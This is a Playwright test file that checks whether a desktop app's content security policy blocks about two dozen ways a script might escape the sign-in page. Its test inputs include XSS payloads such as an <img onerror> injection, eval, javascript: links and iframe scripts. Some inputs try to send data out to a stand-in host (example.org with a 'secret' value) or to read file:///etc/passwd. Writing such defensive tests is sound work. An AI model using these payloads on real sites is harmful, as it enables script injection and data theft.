import { expect, test } from '@playwright/test';
import { type Demo, launchDemo } from './support/demo';
import { watchForRuns } from './support/xss';

test.describe.configure({ mode: 'serial' });
let demo: Demo;
test.beforeAll(async () => {
  demo = await launchDemo();
  await watchForRuns(demo.page);
});
test.afterAll(() => demo.app.close().catch(() => undefined));

/** What a script in the page would try, had one got in: each as the body of a function. */
const ESCAPES: Readonly<Record<string, string>> = {
  'an inline script': `const s = document.createElement('script'); s.textContent = '__ran()'; document.body.append(s);`,
  eval: `(0, eval)('__ran()');`,
  'a text as a function': `new Function('__ran()')();`,
  'a text as a timer': `setTimeout('__ran()');`,
  'a script of its own making': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['__ran()'])); document.body.append(s);`,
  'a script in an address': `const s = document.createElement('script'); s.src = 'data:text/javascript,__ran()'; document.body.append(s);`,
  'a script from elsewhere': `const s = document.createElement('script'); s.src = 'https://example.org/x.js'; document.body.append(s);`,
  'an import': `return import('data:text/javascript,__ran()');`,
  'an inline handler': `const p = document.createElement('p'); p.setAttribute('onclick', '__ran()'); document.body.append(p); p.click();`,
  'a javascript: link': `const a = document.createElement('a'); a.href = 'javascript:__ran()'; document.body.append(a); a.click();`,
  markup: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=__ran()>');`,
  'a frame': `const f = document.createElement('iframe'); f.src = 'data:text/html,<script>parent.__ran()</' + 'script>'; document.body.append(f);`,
  'a frame with a document': `const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>parent.__ran()</' + 'script>'); document.body.append(f);`,
  'an object': `const o = document.createElement('object'); o.data = 'data:text/html,<script>parent.__ran()</' + 'script>'; document.body.append(o);`,
  'another base': `const b = document.createElement('base'); b.href = 'https://example.org/'; document.head.append(b); if (document.baseURI.includes('example')) __ran();`,
  'a form': `const f = document.createElement('form'); f.action = 'https://example.org/'; document.body.append(f); f.submit();`,
  'a worker': `return new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done(__ran()); w.onerror = done; });`,
  'a style': `const s = document.createElement('style'); s.textContent = 'h1 { --escaped: yes }'; document.head.append(s); if (getComputedStyle(document.querySelector('h1')).getPropertyValue('--escaped')) __ran();`,
  'a request elsewhere': `return fetch('https://example.org/').then(__ran);`,
  'a file of this computer': `return fetch('file:///etc/passwd').then(__ran);`,
  'a picture that carries data out': `return new Promise((done) => { const i = new Image(); i.onload = () => done(__ran()); i.onerror = done; i.src = 'https://example.org/?secret'; });`,
  'a beacon': `if (navigator.sendBeacon('https://example.org/', 'secret')) await new Promise((d) => setTimeout(d, 50));`,
  'a socket': `return new Promise((done) => { const s = new WebSocket('wss://example.org/'); s.onopen = () => done(__ran()); s.onerror = done; });`,
  'a service worker': `return navigator.serviceWorker.register('/assets/x.js').then(__ran);`,
};

for (const [name, body] of Object.entries(ESCAPES)) {
  test(`a page gets nowhere with ${name}`, async () => {
    const { page } = demo;
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
    // Later, for while the debugger waits for its answer the policy does not hold.
    const stopped = await page.evaluate(`(async () => {
      const run = async () => { ${body} };
      const thrown = await new Promise((resolve) => {
        setTimeout(() => run().then(() => resolve(null), (error) => resolve(String(error))));
      });
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 30)));
      return { runs: watch.seen.runs, isStopped: thrown !== null || watch.seen.violations.length > 0 };
    })()`);
    expect(stopped).toEqual({ runs: 0, isStopped: true });
    expect(page.url()).toMatch(/^app:\/\/desk\//);
  });
}
